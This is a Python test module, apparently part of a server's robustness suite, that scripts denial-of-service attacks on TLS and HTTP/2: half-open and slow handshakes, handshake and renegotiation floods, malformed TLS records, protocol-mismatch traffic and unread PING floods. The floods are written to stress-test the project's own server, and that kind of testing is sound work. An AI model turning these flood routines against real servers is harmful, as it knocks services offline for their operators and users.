"""Attacks on TLS, and plain text and TLS where the other is expected."""

import contextlib
import os
import socket
import ssl
import subprocess
import time

from tests.attacks import frames
from tests.attacks.flood import CLOSE, PAUSE, Sent, flood
from tests.attacks.http2_attacks import OPENING


def client_hello():
    """Returns the bytes of a ClientHello that offers h2."""
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    outgoing = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost").do_handshake()
    return outgoing.read()


def half_handshakes(address, seconds):
    """Sends a ClientHello on 500 connections and nothing more."""
    hello = client_hello()
    return flood(address, seconds, lambda: iter([hello]), connections=500)


def handshakes(address, seconds):
    """Sends a ClientHello and connects again, on 50 connections: each costs the server a signature."""
    hello = client_hello()
    return flood(address, seconds, lambda: iter([hello, PAUSE, CLOSE]), connections=50)


def slow_handshakes(address, seconds):
    """Sends a ClientHello byte by byte on 400 connections."""
    hello = client_hello()

    def script():
        for i in range(len(hello)):
            yield hello[i : i + 1]
            yield PAUSE

    return flood(address, seconds, script, connections=400)


def broken_records(address, seconds):
    """Sends a ClientHello and then records that are none."""
    data = client_hello() + b"\x17\x03\x03\x40\x00" + os.urandom(0x4000)
    return flood(address, seconds, lambda: iter([data, PAUSE]), connections=50)


def plain_text(address, seconds):
    """Sends HTTP/2 in plain text to a port with TLS."""
    call = frames.frame(frames.HEADERS, frames.request(frames.HEALTH), frames.END_HEADERS, 1)
    return flood(address, seconds, lambda: iter([OPENING + call, PAUSE]), connections=50)


def tls_to_plain_text(address, seconds):
    """Sends a ClientHello to a port in plain text."""
    hello = client_hello()
    return flood(address, seconds, lambda: iter([hello, PAUSE]), connections=50)


def http1(address, seconds):
    """Sends requests of HTTP/1.1."""
    request = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n" * 10
    return flood(address, seconds, lambda: iter([request, PAUSE]), connections=50)


def renegotiation(address, seconds):
    """Asks for a new handshake again and again over TLS 1.2, on four connections."""
    sent = Sent()
    end = time.monotonic() + seconds
    command = [
        "openssl",
        "s_client",
        "-tls1_2",
        "-alpn",
        "h2",
        "-connect",
        f"{address[0]}:{address[1]}",
    ]
    clients = []
    while time.monotonic() < end:
        clients = [client for client in clients if client.poll() is None]
        while len(clients) < 4:
            sent.connections += 1
            clients.append(
                subprocess.Popen(
                    command,
                    stdin=subprocess.PIPE,
                    stdout=subprocess.DEVNULL,
                    stderr=subprocess.DEVNULL,
                )
            )
        for client in clients:
            with contextlib.suppress(OSError):
                client.stdin.write(b"R\n")
                client.stdin.flush()
                sent.bytes += 2
        time.sleep(0.005)
    for client in clients:
        client.kill()
        client.wait()
    return sent


def frames_over_tls(address, seconds):
    """Sends PING frames over TLS as fast as one connection takes them, and reads nothing."""
    sent = Sent()
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    pings = frames.frame(frames.PING, b"12345678") * 10_000
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        sent.connections += 1
        with contextlib.suppress(OSError), socket.create_connection(address, timeout=0.5) as plain:
            with context.wrap_socket(plain) as encrypted:
                encrypted.sendall(OPENING)
                while time.monotonic() < end:
                    encrypted.sendall(pings)
                    sent.bytes += len(pings)
    return sent
